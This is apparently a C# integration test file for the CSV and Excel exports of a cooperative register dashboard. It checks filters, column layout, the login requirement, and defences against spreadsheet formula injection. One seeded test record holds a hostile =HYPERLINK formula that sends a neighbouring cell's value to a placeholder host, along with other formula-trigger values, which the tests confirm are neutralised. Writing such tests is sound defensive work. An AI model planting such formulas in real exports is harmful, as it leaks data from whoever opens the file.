using System.Net;
using System.Text;
using KopUkm.Dashboard.Data;
using KopUkm.Dashboard.Data.Seeding;
using KopUkm.Dashboard.Features.Account.Demo;
using KopUkm.Dashboard.Features.Cooperatives;
using KopUkm.Dashboard.Features.Organization;
using KopUkm.Dashboard.Tests.TestInfrastructure;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using MiniExcelLibs;

namespace KopUkm.Dashboard.Tests.Web;

/// <summary>The register's CSV and Excel exports over HTTP, on both databases (the filters and the name search are queries).</summary>
public abstract class CooperativeExportTests(AppFactory factory) : IAsyncLifetime
{
    public sealed class OnSqlite(AppFactory factory) : CooperativeExportTests(factory), IClassFixture<AppFactory>;

    public sealed class OnPostgreSql(PostgreSqlAppFactory factory) : CooperativeExportTests(factory), IClassFixture<PostgreSqlAppFactory>;

    public async Task InitializeAsync()
    {
        await using var scope = factory.Services.CreateAsyncScope();
        await using var db = await scope.ServiceProvider.GetRequiredService<IDbContextFactory<AppDbContext>>().CreateDbContextAsync();
        if (await db.Set<Cooperative>().AnyAsync(c => c.Name.StartsWith("Ekspor")))
        {
            return;
        }

        var regions = await db.Set<Region>().ToDictionaryAsync(r => r.Code, r => r.Id);
        db.AddRange(
            new Cooperative { Name = "Ekspor Satu", NormalizedName = "EKSPOR SATU", RegionId = regions["15.71"], MemberCount = 30, Nik = "1571000000777", Type = CooperativeType.Jasa },
            new Cooperative { Name = "Ekspor Dua", NormalizedName = "EKSPOR DUA", RegionId = regions["15.01"], MemberCount = 12, ActivityStatus = ActivityStatus.TidakAktif },
            new Cooperative
            {
                Name = Hostile, NormalizedName = "HYPERLINK EKSPOR RUMUS", RegionId = regions["15.71"], MemberCount = 25,
                Address = "+62 Jalan Rumus", ChairName = "@SUM(A1)", DeedNumber = "-2", AhuDecreeNumber = "\t=1",
            });
        await db.SaveChangesAsync();
    }

    public Task DisposeAsync() => Task.CompletedTask;

    /// <summary>How a cell says it holds text: a string of its own, a shared string, an inline string.</summary>
    private static readonly string[] TextCellTypes = ["str", "s", "inlineStr"];

    /// <summary>A cooperative name that Excel would run as a formula, sending a neighbouring cell to another site.</summary>
    private const string Hostile = "=HYPERLINK(\"http://contoh.invalid/?d=\"&A2,\"Ekspor Rumus\")";

    [Fact]
    public async Task Csv_export_uses_the_import_layout_and_applies_the_filters()
    {
        var client = await HttpLogin.SignedInClientAsync(factory, "petugas.umk@kopukm.demo", DemoUsers.Password);

        var response = await client.GetAsync("/koperasi/ekspor?format=csv&status=TidakAktif&q=ekspor");
        var text = Encoding.UTF8.GetString(await response.Content.ReadAsByteArrayAsync()).TrimStart('\uFEFF');
        var lines = text.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => l.TrimEnd('\r')).ToList();

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.StartsWith("attachment", response.Content.Headers.ContentDisposition!.DispositionType, StringComparison.Ordinal);
        Assert.Equal("Nama Koperasi,Jenis,Pola,Jenjang,Kabupaten/Kota", string.Join(",", lines[0].Split(',').Take(5)));
        var row = Assert.Single(lines.Skip(1));
        Assert.StartsWith("Ekspor Dua,Simpan Pinjam,Konvensional,Primer,Kerinci", row, StringComparison.Ordinal);
        Assert.Contains("Tidak Aktif", row, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Excel_export_opens_as_a_workbook_with_the_same_columns()
    {
        var client = await HttpLogin.SignedInClientAsync(factory, "pimpinan@kopukm.demo", DemoUsers.Password);

        var bytes = await client.GetByteArrayAsync("/koperasi/ekspor?format=xlsx&q=ekspor%20satu");
        using var stream = new MemoryStream(bytes);
        var rows = stream.Query(useHeaderRow: true).Cast<IDictionary<string, object>>().ToList();

        var row = Assert.Single(rows);
        Assert.Equal("Ekspor Satu", row["Nama Koperasi"]?.ToString());
        Assert.Equal("1571000000777", row["NIK"]?.ToString());
        Assert.Equal("Jambi", row["Kabupaten/Kota"]?.ToString());
    }

    [Fact]
    public async Task Csv_export_puts_an_apostrophe_before_every_cell_a_spreadsheet_would_run_as_a_formula()
    {
        var client = await HttpLogin.SignedInClientAsync(factory, "petugas.umk@kopukm.demo", DemoUsers.Password);

        var cells = Common.CsvFileTests.ReadCells(await client.GetByteArrayAsync("/koperasi/ekspor?format=csv&q=rumus"));

        var row = Assert.Single(cells.Skip(1));
        Assert.Equal(("'" + Hostile, "'+62 Jalan Rumus", "'@SUM(A1)", "'-2", "'\t=1"), (row[0], row[5], row[6], row[11], row[13]));
        Assert.Equal("Simpan Pinjam", row[1]);
    }

    [Fact]
    public async Task Excel_export_writes_formula_like_values_as_text_cells_not_formulas()
    {
        var client = await HttpLogin.SignedInClientAsync(factory, "petugas.umk@kopukm.demo", DemoUsers.Password);

        var bytes = await client.GetByteArrayAsync("/koperasi/ekspor?format=xlsx&q=rumus");
        using var zip = new System.IO.Compression.ZipArchive(new MemoryStream(bytes));
        using var sheet = new StreamReader(zip.GetEntry("xl/worksheets/sheet1.xml")!.Open());
        var xml = System.Xml.Linq.XDocument.Parse(await sheet.ReadToEndAsync());
        var main = System.Xml.Linq.XNamespace.Get("http://schemas.openxmlformats.org/spreadsheetml/2006/main");

        Assert.Empty(xml.Descendants(main + "f"));
        var hostile = xml.Descendants(main + "c").Single(c => c.Value == Hostile);
        Assert.Contains(hostile.Attribute("t")?.Value, TextCellTypes);
        using var stream = new MemoryStream(bytes);
        var row = Assert.Single(stream.Query(useHeaderRow: true).Cast<IDictionary<string, object>>());
        Assert.Equal((Hostile, "-2"), (row["Nama Koperasi"]?.ToString(), row["Nomor Akta"]?.ToString()));
    }

    [Fact]
    public async Task Exports_and_the_template_need_a_signed_in_user()
    {
        var anonymous = HttpLogin.AnonymousClient(factory);

        Assert.Equal(HttpStatusCode.Redirect, (await anonymous.GetAsync("/koperasi/ekspor?format=csv")).StatusCode);
        Assert.Equal(HttpStatusCode.Redirect, (await anonymous.GetAsync("/koperasi/impor/templat")).StatusCode);
    }
}
